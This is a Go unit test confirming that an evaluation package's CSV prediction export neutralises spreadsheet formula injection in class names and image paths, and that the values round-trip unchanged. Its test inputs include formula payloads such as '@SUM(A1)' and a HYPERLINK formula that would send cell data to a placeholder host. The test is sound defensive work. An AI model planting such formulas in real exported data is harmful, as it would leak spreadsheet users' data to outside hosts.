package evaluation

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"
)

// TestFormulasInNames: predictions of classes and images whose names a spreadsheet would run hold no formula, and come
// back as they were. Numbers stay numbers.
func TestFormulasInNames(t *testing.T) {
	p := &Predictions{Classes: []string{"=1+1", "'=1+1", "-1", "@SUM(A1)", "\tx", "'quoted", "''x"}}
	for i, path := range []string{`=HYPERLINK("http://a/?x="&A1)`, "+1.png", "-1.5", "'-1.5", "@a", "\ra.png", "''", "a;=b"} {
		row := Prediction{Path: path, Label: i % 7, Probabilities: make([]float64, 7)}
		row.Probabilities[(i+1)%7] = 1
		p.Rows = append(p.Rows, row)
	}
	var file bytes.Buffer
	if err := WritePredictions(&file, p); err != nil {
		t.Fatal(err)
	}
	cells, err := csv.NewReader(bytes.NewReader(file.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range cells {
		for _, cell := range row {
			if strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
				t.Errorf("the cell %q is a formula", cell)
			}
		}
	}
	got, err := ReadTable(&file, TableOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, p) {
		t.Errorf("got %v, want %v", *got, *p)
	}
	logits := "path,label,logit_a,logit_b\n'-1.png,a,-1.5,+2\n"
	if got, err := ReadTable(strings.NewReader(logits), TableOptions{Logits: true}); err != nil || got.Rows[0].Path != "-1.png" ||
		got.Rows[0].Probabilities[1] < 0.97 {
		t.Errorf("%v, %v", got, err)
	}
}
